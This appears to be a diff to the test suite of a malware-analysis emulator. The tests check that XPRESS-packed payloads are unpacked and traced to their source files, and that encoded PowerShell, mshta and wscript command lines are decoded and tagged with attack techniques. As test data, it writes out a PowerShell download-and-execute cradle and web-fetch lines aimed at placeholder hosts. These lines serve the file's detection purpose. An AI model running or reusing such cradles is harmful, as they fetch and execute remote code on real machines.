@@ -5,12 +5,22 @@
   CONTEXT whose Rip was the payload ran. An APC to the calling thread now waits for an alertable
   moment (``NtTestAlert``, an alertable ``SleepEx``) and runs there (``via: apc``); ``NtContinue``
   / ``RtlRestoreContext`` resume the thread with the CONTEXT (``via: context``).
+* ``file-xpress``: ``RtlDecompressBuffer(Ex)`` knew LZNT1 only (``STATUS_UNSUPPORTED_COMPRESSION``
+  for XPRESS and XPRESS_HUFF) and ``RtlGetCompressionWorkSpaceSize`` was signature-emulated (a
+  zero size). Then, both payloads unpacked: the thread's stage (run last, Speakeasy starts threads
+  after the run) was traced to the other file, whose unpacked copy was the latest with the same
+  bytes; the carrier that put exactly the stage's bytes at the stage's own address now comes first.
 """
 
 from __future__ import annotations
 
+import base64
 from collections.abc import Callable
 from typing import Any
+
+import pytest
+
+from emulator.backends.speakeasy.scripthosts import script_commands
 
 Report = dict[str, Any]
 
@@ -37,3 +47,69 @@ def test_an_apc_to_the_own_thread_runs_at_nt_test_alert_and_nt_continue_loads_a_
     assert resumed["seq"] < s2["seq_range"][0]
     assert [c["api"] for c in report["api_calls"] if c["seq"] > s2["seq_range"][1]] == ["kernel32.ExitProcess"]
     assert [c["args"][0] for c in _calls(report, "kernel32.ExitProcess")] == ["0x0"]
+
+
+def test_xpress_payloads_are_unpacked_and_each_traced_to_its_own_file(
+    scenario_report: Callable[[str], Report],
+) -> None:
+    report = scenario_report("file-xpress")
+    assert not [n for n in report["notes"] if n["what"] == "signature_emulated"]
+    s1, s2 = report["stages"][1:]
+    assert (s1["via"], s2["via"]) == ("call", "thread")
+    assert s1["origin"]["ref"].endswith("update.xpr") and s2["origin"]["ref"].endswith("update.xph")
+    assert [(h["source"], h["transform"], h["ref"]) for h in s2["lineage"]] == [
+        ("file", "source", "C:\\ProgramData\\ChainreplayDemo\\update.xph"),
+        ("api", "decompress", "ntdll.RtlDecompressBufferEx"),
+    ]
+    refs = {b["ref"] for b in report["buffers"] if b["source"] == "decompress"}
+    assert refs == {"ntdll.RtlDecompressBufferEx (XPRESS_HUFF)", "ntdll.RtlDecompressBuffer (XPRESS)"}
+    sizes = _calls(report, "ntdll.RtlGetCompressionWorkSpaceSize")
+    assert [c["ret"] for c in sizes] == ["0x0"]
+
+
+def test_script_hosts_say_what_they_would_have_run(scenario_report: Callable[[str], Report]) -> None:
+    report = scenario_report("script-hosts")
+    notes = [n["detail"] for n in report["notes"] if n["what"] == "script_command"]
+    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://cdn.example-update.net/stage.ps1')"
+    assert notes == [
+        f"powershell.exe -EncodedCommand, decoded from UTF-16LE base64: {cradle}; "
+        "URLs: http://cdn.example-update.net/stage.ps1; the script host is not emulated",
+        "mshta.exe url: http://cdn.example-update.net/update.hta; URLs: http://cdn.example-update.net/update.hta; "
+        "the script host is not emulated",
+        "wscript.exe script: C:\\Users\\Public\\sync.js; the script host is not emulated",
+    ]
+    by_technique = {a["technique"]: a for a in report["attack"]}
+    powershell = next(n for n in report["notes"] if n["detail"].startswith("powershell"))
+    assert by_technique["T1059.001"]["evidence"] == by_technique["T1027.010"]["evidence"] == [powershell["seq"]]
+    assert "T1218.005" in by_technique
+
+
+def _encoded(text: str) -> str:
+    return base64.b64encode(text.encode("utf-16-le")).decode()
+
+
+@pytest.mark.parametrize(
+    ("line", "how", "text"),
+    [
+        (f"powershell -e {_encoded('calc')}", "EncodedCommand", "calc"),
+        (f'"C:\\x\\PowerShell.EXE" -ep bypass -ENC "{_encoded("a b")}"', "EncodedCommand", "a b"),
+        (f"pwsh -NoLogo -EncodedCo {_encoded('x')}", "EncodedCommand", "x"),
+        ("powershell -ExecutionPolicy Bypass -File C:\\a.ps1", "File", "C:\\a.ps1"),
+        ('powershell -w hidden -c "iwr http://h.example/a"', "Command", '"iwr http://h.example/a"'),
+        ("powershell Get-Process -Name x", "Command", "Get-Process -Name x"),
+        (f"cmd /c echo a & powershell /enc {_encoded('y')}", "EncodedCommand", "y"),
+        ("mshta javascript:alert(1)", "inline", "javascript:alert(1)"),
+        ("cscript //nologo C:\\s.vbs arg", "script", "C:\\s.vbs"),
+    ],
+)
+def test_script_command_lines_are_read_as_the_host_reads_them(line: str, how: str, text: str) -> None:
+    program = line.split('"')[1] if line.startswith('"') else line.split()[0]
+    found = script_commands(program, line, lambda t: t)
+    assert [(c.how, c.text) for c in found] == [(how, text)]
+
+
+def test_what_is_no_script_host_or_no_base64_is_said_so() -> None:
+    assert script_commands("notepad.exe", "notepad.exe x.ps1", lambda t: t) == []
+    assert script_commands("powershell.exe", "powershell.exe -NoProfile", lambda t: t) == []
+    (bad,) = script_commands("powershell.exe", "powershell.exe -enc !!notbase64", lambda t: t)
+    assert bad.error == "not base64" and "not decoded" in bad.detail()
